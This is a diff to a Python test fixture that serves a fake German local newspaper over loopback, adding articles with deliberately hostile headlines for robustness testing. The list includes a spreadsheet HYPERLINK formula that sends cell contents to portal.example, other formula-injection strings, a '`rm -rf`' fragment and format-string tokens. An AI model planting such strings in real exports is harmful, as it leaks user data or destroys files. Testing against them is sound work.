@@ -1,7 +1,9 @@
 """A newspaper on loopback for the scripts beside this file: articles that can be edited, some compressed."""
 
 import gzip
+import html
 import http.server
+import json
 import threading
 
 WORDS = ("Gemeinderat Bürgermeister Haushalt Brücke Umbau Feuerwehr Schule Verein Rathaus Straße Abend Beschluss Antrag "
@@ -68,6 +70,52 @@ lead = "{lead}"
                 f"<style>{'.a{color:red}' * (self.padding // 14)}</style></head><body><article><h1>Meldung {number}</h1>"
                 f"<p class='vorspann'>Vorspann {sentence(number)}</p>{text}<p>Beschlossen wurde das {changed}.</p></article>"
                 f"<aside><h2>Anzeige {self.sidebar}</h2><a href='/artikel/{self.sidebar}'>Auch interessant</a></aside></body></html>")
+
+
+# Headlines that are dangerous to a spreadsheet, a parser or a guess of types.
+HOSTILE = ["=1+1", '=HYPERLINK("http://portal.example/?"&A1,"hier")', "+49 711 12345", "-2+3", "@SUM(1+1)", "＝1+1", 'Ein " allein',
+           'Er sagte: "Ja, aber"', "a,b;c\\te", "NA", "NULL", "TRUE", "007", "1e5", "2020-04-06", "e\u0301 und é", "🦊🏳️‍🌈 Fuchs",
+           "{\\LaTeX} & $x_1$ % #~^", "<b>&amp;</b>", "TY  - JOUR", "@article{x,", "]]> und <!-- -->", "%s %n {} ${x}", "l'été d'or",
+           "`rm -rf`", "عنوان بالعربية"]
+
+
+class Gazette(Newspaper):
+    """Articles with everything a record has: people, sections, quotations, dates; every other one has a hostile headline."""
+
+    @staticmethod
+    def headline(number):
+        value = HOSTILE[number // 2 % len(HOSTILE)] if number % 2 else f"Meldung {number} aus {WORDS[number % len(WORDS)]}"
+        return " ".join(value.split())
+
+    @staticmethod
+    def authors(number):
+        people = ["Anna Beispiel", "Jörg von der Aue", "Zoë O'Neil", "Karl-Heinz Öztürk", "Mia Groß"]
+        return [people[(number + k) % len(people)] for k in range(number % 3)]
+
+    def page(self, path):
+        if not path.startswith("/artikel/"):
+            return super().page(path)
+        number = int(path.rsplit("/", 1)[1])
+        if number >= self.articles:
+            return None
+        headline, month, day = self.headline(number), number // 28 % 12 + 1, number % 28 + 1
+        facts = {"@context": "https://schema.org", "@type": "NewsArticle", "headline": headline,
+                 "datePublished": f"2024-{month:02}-{day:02}T{number % 24:02}:{number % 60:02}:00+02:00",
+                 "author": [{"@type": "Person", "name": name} for name in self.authors(number)],
+                 "articleSection": "Lokales", "keywords": [WORDS[number % 7], WORDS[number % 11 + 7]]}
+        paragraphs = [f"Musterstadt. {sentence(number, 20)}",
+                      f"„{sentence(number + 1, 9)}“, sagte Bürgermeisterin Petra Muster am Montag. {sentence(number + 2, 15)}",
+                      f"{sentence(number + 3, 25)} {sentence(number + 4, 25)}"]
+        if number % 1_000 == 999:
+            # More than a spreadsheet's cell holds.
+            paragraphs += [sentence(number + k, 60) for k in range(100)]
+        text = "".join(f"<p>{html.escape(each)}</p>\n" for each in paragraphs)
+        code = json.dumps(facts).replace("<", "\\u003c")
+        return (f"<!doctype html><html lang='de'><head><meta charset='utf-8'><title>{html.escape(headline)}</title>"
+                f"<script type='application/ld+json'>{code}</script></head><body><article><h1>{html.escape(headline)}</h1>"
+                f"<p class='vorspann'>Vorspann {sentence(number)}</p>{text}<pre>a\tb\n  c,\"d\"</pre>"
+                f"<p>Mehr davon <a href='/artikel/{(number + 1) % self.articles}'>{WORDS[number % 25]} &quot;{number}&quot;</a>.</p>"
+                "</article></body></html>")
 
 
 class Handler(http.server.BaseHTTPRequestHandler):
